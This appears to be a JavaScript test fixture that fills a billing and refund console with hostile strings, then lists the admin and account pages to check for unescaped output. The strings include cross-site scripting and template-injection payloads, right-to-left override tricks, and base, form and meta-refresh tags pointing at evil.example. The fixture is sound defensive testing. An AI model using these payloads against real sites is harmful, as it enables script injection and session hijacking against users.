// What hostile people write wherever they can: markup, scripts, links, templates, and letters that turn a line around.
import { Api } from "./api.mjs";
import { invoice, refund } from "./books.mjs";
import { person } from "./people.mjs";

// Each brings an element of its own, `x-h`, or an attribute: neither is ever part of a page of ours.
export const TEXTS = [
  "<script>alert(1)</script><x-h>",
  "\"><img src=x onerror=alert(1)><x-h>",
  "' onmouseover='alert(1)' x='",
  "javascript:alert(1)//<x-h>",
  "</title></textarea></option><svg onload=alert(1)><x-h>",
  "{{7*7}}${7*7}<%=7*7%>@(7*7)<x-h>",
  "\u202E00.999 DSU<x-h>",
  "\" autofocus onfocus=alert(1) \"",
  "<a href=javascript:alert(1)>x</a><x-h>",
  "<x-h hx-get=/console/logout hx-trigger=load>",
  "&lt;x-h&gt;&#60;x-h&#62;&amp;",
  "--><x-h>]]><x-h>",
  "\u200B<x-h>\ttab\uFEFF<x-h>",
  "=1+1<style>*{display:none}</style><x-h>",
  "<meta http-equiv=refresh content=0;url=//evil><x-h>",
  "<base href=//evil.example><x-h>",
  "<form action=//evil.example><input name=csrf><x-h>",
];

// Where no blanks may be, and where a name is short.
export const NAME = "\"><img/src=x/onerror=alert(1)><x-h>\u202E7";
// Who logs in has a plain name.
const WHO = "mallory";
const SHORT = "'\"><x-h/onclick=alert(1)>\u202E8";

// A writer who puts one text after the other instead of what was to be written, each with a number behind a letter that
// turns the rest of its line around; and what was written so far.
export function writer() {
  const written = [];
  const write = () => {
    const text = `${TEXTS[written.length % TEXTS.length]} \u202E${written.length}`;
    written.push(text);
    return text;
  };
  return { write, written };
}

// Labels of every object that has some.
async function labels(api, write, documents) {
  for (const object of ["account", "invoice", "payment", "refund", "credit_balance_adjustment", "invoice_item_adjustment"]) {
    const field = { object, name: "Hostile__c", label: write(), type: "text", generation: "legacy" };
    await api.post("/api/v1/custom-fields", field);
  }
  for (const path of documents) {
    await api.patch(`${path}/custom-fields`, { custom_fields: { Hostile__c: write() } });
    await api.patch(`${path}/metadata`, { metadata: { [SHORT]: write() } });
  }
}

// What has a name that somebody chooses. The pages it has, for whom.
async function names(api, write) {
  await api.post("/api/v1/roles", { name: NAME, description: write(), permissions: ["view_payments", "approve_refund"] });
  await api.post("/api/v1/approval-policies", {
    name: NAME, when: { external: true, currency: "USD", amount_over: "10" },
    levels: [{ roles: [NAME, "Administrator"] }],
  });
  await api.post("/api/v1/accounting-periods", { name: NAME, first_day: "2026-04-01", last_day: "2026-04-30" });
  await api.post("/api/v1/reason-codes", { category: "credit_balance_refund", code: SHORT });
  await api.post("/api/v1/gateways", { name: NAME, kind: "sandbox", url: "https://example.com/'\"><x-h>" });
  await api.post("/api/v1/api-keys", { name: NAME, person: write(), roles: [NAME] });
  await api.post("/api/v1/api-clients", { name: `${WHO}-program`, roles: [NAME] });
  const { id } = await api.post("/api/v1/event-endpoints", {
    url: "http://127.0.0.1:9/?x='onload=alert(1)&javascript:alert(1)", description: write(), types: ["dispute.closed"],
  });
  await api.patch("/api/v1/settings", { accounting_codes: { bank: write(), customer_cash_on_account: write() } });
  const name = encodeURIComponent(NAME);
  const admin = [
    `users/${WHO}`, `users/${WHO}/edit`, `users/${WHO}/reset-password`, `roles/${name}`, `policies/${name}`,
    `periods/${name}`, `reason-codes/credit_balance_refund/${encodeURIComponent(SHORT)}`, `gateways/${name}`,
    `gateways/${name}/edit`, `gateways/${name}/credentials`, `gateways/${name}/test`, `api-keys/${name}`,
    `api-keys/${name}/edit`, `api-keys/${name}/revoke`, `api-clients/${WHO}-program`, `api-clients/${WHO}-program/edit`,
    `api-clients/${WHO}-program/revoke`, "custom-fields/refund/Hostile__c", `event-endpoints/${id}`,
    `event-endpoints/${id}/edit`, `event-endpoints/${id}/delete`,
  ];
  return admin.map((rest) => `/console/admin/${rest}`);
}

// A hostile person acts for another, on an account of a third.
async function deeds(books, api, write) {
  const server = { url: books.url, api };
  const theirs = await person(server, WHO, ["Administrator"], { person: write() });
  const account = { name: write(), currency: "USD", external_id: write() };
  const number = await theirs.make("account", "/api/v1/accounts", account);
  const negative = await invoice(theirs, number, "-100", { description: write(), sku: write() });
  await theirs.post(`/api/v1/invoices/${negative}/transfer`, { comment: write(), reference: write() });
  // No page shows it; if one ever does, it is hostile.
  const personal = { name: TEXTS[0], postal_address: TEXTS[1], note: TEXTS[4] };
  await api.send("PUT", `/api/v1/accounts/${number}/personal-data`, personal, { "idempotency-key": "personal" });
  const open = await invoice(theirs, number, "50", { description: write(), sku: write() });
  const words = () => ({ comment: write(), reference: write() });
  const lines = [{ type: "credit", amount: "1" }];
  const adjustment = await theirs.make("invoice_item_adjustment", `/api/v1/invoices/${open}/adjust`, { lines, ...words() });
  const cheque = { method_type: "check", reason_code: SHORT };
  const acting = new Api(books.url, { ...api.headers, "quittance-on-behalf-of": "'\"><x-h>", "x-request-id": "<x-h>" });
  const paid = await refund(acting, number, { ...cheque, amount: "3", ...words() });
  const waits = await refund(theirs, number, { ...cheque, amount: "12", ...words() });
  const agreed = await refund(theirs, number, { ...cheque, amount: "13", ...words() });
  await books.people.ada.post(`/api/v1/refunds/${agreed}/approve`, { comment: write() });
  const payment = await api.make("payment", `/api/v1/accounts/${number}/payments`, {
    method_type: "wire_transfer", applications: [{ invoice: open, amount: "5" }], credit_balance_amount: "1", ...words(),
  });
  await api.make("payment_method", `/api/v1/accounts/${number}/payment-methods`, {
    method_type: "credit_card", token: "pm_ok", brand: TEXTS[0], last_four: "4242",
  });
  const { credit_balance_adjustments: [credit] } = await api.get(`/api/v1/credit-balance-adjustments?account=${number}`);
  return { number, open, adjustment, paid, waits, agreed, payment, credit: credit.number };
}

// Makes the books hostile. The pages beside those of the list, for an administrator.
export async function spoil(books, write) {
  const { api } = books;
  const admin = await names(api, write);
  const made = await deeds(books, api, write);
  await labels(api, write, [
    `/api/v1/accounts/${made.number}`, `/api/v1/invoices/${made.open}`, `/api/v1/payments/${made.payment}`,
    `/api/v1/refunds/${made.paid}`, `/api/v1/credit-balance-adjustments/${made.credit}`,
    `/api/v1/invoice-item-adjustments/${made.adjustment}`,
  ]);
  const { entries } = await api.get("/api/v1/journal?limit=200");
  const { events } = await api.get("/api/v1/events?limit=200");
  const tabs = ["", "invoices", "payments", "refunds", "adjustments", "methods", "timeline"];
  const account = `/console/accounts/${made.number}`;
  return [
    ...admin,
    ...tabs.map((tab) => `${account}?tab=${tab}`),
    ...["credit_balance", "held", "available", "total_invoice_balance"].map((of) => `${account}/explain?of=${of}`),
    ...["refund", "apply", "statement", "cancel"].map((page) => `${account}/${page}`),
    ...["", "/adjust", "/unpost", "/counter-adjust"].map((page) => `/console/invoices/${made.open}${page}`),
    ...["", "/refund", "/refund?way=0", "/cancel"].map((page) => `/console/payments/${made.payment}${page}`),
    ...[made.paid, made.waits, made.agreed].map((number) => `/console/refunds/${number}`),
    `/console/refunds/${made.paid}/cancel`,
    `/console/credit-balance-adjustments/${made.credit}`,
    `/console/credit-balance-adjustments/${made.credit}/cancel`,
    `/console/invoice-item-adjustments/${made.adjustment}/cancel`,
    ...entries.map(({ number }) => `/console/journal/${number}`),
    ...events.filter((_, place) => place % 7 === 0).map(({ id }) => `/console/events/${id}`),
  ];
}
